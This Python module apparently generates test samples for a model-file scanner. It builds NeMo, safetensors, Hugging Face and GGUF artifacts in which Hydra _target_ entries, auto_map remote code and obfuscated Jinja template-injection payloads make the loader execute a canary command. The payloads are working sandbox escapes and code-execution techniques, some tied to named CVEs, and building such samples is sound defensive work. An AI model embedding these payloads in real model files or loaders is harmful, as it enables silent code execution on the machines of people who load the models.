"""Samples where configuration, not pickle, makes the loader run code: Hydra ``_target_`` in
NeMo archives and safetensors metadata, Hugging Face ``auto_map`` remote code, and Jinja chat
templates in GGUF metadata and tokenizer_config.json."""

from __future__ import annotations

import io
import json
import struct
import tarfile
from pathlib import Path

from registry import Canary, sample


def _nemo(out: Path, config: str) -> None:
    with tarfile.open(out, "w:") as tar:
        for name, data in (("model_config.yaml", config.encode()), ("model_weights.ckpt", b"")):
            info = tarfile.TarInfo(f"./{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


HYDRA = {
    "exec": lambda c: f"_target_: builtins.exec\n_args_:\n  - {json.dumps(c.py)}\n",
    "subprocess": lambda c: f"_target_: subprocess.run\nargs: {json.dumps(c.argv)}\n",
    "nested": lambda c: (
        "_target_: builtins.dict\n"
        "preprocessor:\n"
        f"  _target_: os.system\n  _args_: [{json.dumps(c.shell)}]\n"
        "sample_rate: 16000\n"
    ),
    "partial": lambda c: (
        "encoder:\n"
        f"  _target_: builtins.eval\n  _args_: [{json.dumps(c.py_expr)}]\n"
        "decoder:\n  _target_: builtins.dict\n"
    ),
}


for _k, _cfg in HYDRA.items():

    def _build(out: Path, c: Canary, cfg=_cfg) -> None:  # type: ignore[no-untyped-def]
        _nemo(out, cfg(c))

    sample(
        f"nemo-hydra-{_k}",
        "cve-2025-23304-nemo-hydra",
        loader="hydra_nemo",
        env="hydra132",
        name="model.nemo",
    )(_build)


def _safetensors(out: Path, metadata: dict[str, str]) -> None:
    header = {"__metadata__": metadata, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    out.write_bytes(struct.pack("<Q", len(raw)) + raw + b"\x00" * 8)


@sample(
    "safetensors-hydra-target",
    "unit42-safetensors-hydra",
    loader="hydra_safetensors",
    env="hydra132",
    name="model.safetensors",
)
def _st(out: Path, c: Canary) -> None:
    cfg = {"_target_": "builtins.exec", "_args_": [c.py]}
    _safetensors(out, {"format": "pt", "config": json.dumps(cfg)})


@sample(
    "safetensors-hydra-nested",
    "unit42-safetensors-hydra",
    loader="hydra_safetensors",
    env="hydra132",
    name="model.safetensors",
)
def _st_nested(out: Path, c: Canary) -> None:
    cfg = {"encoder": {"_target_": "os.system", "_args_": [c.shell]}, "dim": 64}
    _safetensors(out, {"format": "pt", "config": json.dumps(cfg)})


def _hf_folder(out: Path, config: dict[str, object], files: dict[str, str]) -> None:
    out.mkdir()
    (out / "config.json").write_text(json.dumps(config))
    for name, text in files.items():
        (out / name).write_text(text)


@sample("hf-auto-map-config", "hf-auto-map-remote-code", loader="hf_config", name="model")
def _hf_cfg(out: Path, c: Canary) -> None:
    code = (
        f"{c.py}\nfrom transformers import PretrainedConfig\n\n"
        "class TinyConfig(PretrainedConfig):\n    model_type = 'tiny'\n"
    )
    cfg = {"model_type": "tiny", "auto_map": {"AutoConfig": "configuration_tiny.TinyConfig"}}
    _hf_folder(out, cfg, {"configuration_tiny.py": code})


@sample("hf-auto-map-tokenizer", "hf-auto-map-remote-code", loader="hf_tokenizer", name="model")
def _hf_tok(out: Path, c: Canary) -> None:
    code = (
        f"{c.py}\nfrom transformers import PreTrainedTokenizer\n\n"
        "class TinyTokenizer(PreTrainedTokenizer):\n    pass\n"
    )
    _hf_folder(out, {"model_type": "bert"}, {"tokenization_tiny.py": code})
    tok = {
        "auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]},
        "tokenizer_class": "TinyTokenizer",
    }
    (out / "tokenizer_config.json").write_text(json.dumps(tok))


# Jinja server-side template injection; each variant reaches os/popen differently
SSTI = {
    "cycler-globals": "{{ cycler.__init__.__globals__.os.popen(CMD).read() }}",
    "subclasses-walk": (
        "{% for x in ().__class__.__base__.__subclasses__() %}"
        "{% if 'warning' in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').popen(CMD).read() }}"
        "{% endif %}{% endfor %}"
    ),
    "computed-subscript": (
        "{% set g = '__glo' ~ 'bals__' %}{{ lipsum[g]['o' ~ 's']['po' ~ 'pen'](CMD).read() }}"
    ),
    "attr-filter-escapes": (
        "{{ (joiner|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))"
        "['os'].popen(CMD).read() }}"
    ),
}


def _template(kind: str, c: Canary) -> str:
    chat = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"
    return SSTI[kind].replace("CMD", json.dumps(c.shell)) + chat


for _k in SSTI:

    def _gguf(out: Path, c: Canary, kind: str = _k) -> None:
        import gguf
        import numpy as np

        w = gguf.GGUFWriter(str(out), "llama")
        w.add_chat_template(_template(kind, c))
        w.add_tensor("token_embd.weight", np.zeros((4, 4), dtype=np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()

    sample(f"gguf-ssti-{_k}", "cve-2024-34359-gguf-ssti", loader="gguf_jinja", name="model.gguf")(
        _gguf
    )


@sample(
    "tokenizer-config-ssti",
    "chat-template-ssti-tokenizer-config",
    loader="hf_jinja",
    name="tokenizer_config.json",
)
def _tok_ssti(out: Path, c: Canary) -> None:
    out.write_text(
        json.dumps({"chat_template": _template("cycler-globals", c), "eos_token": "</s>"})
    )
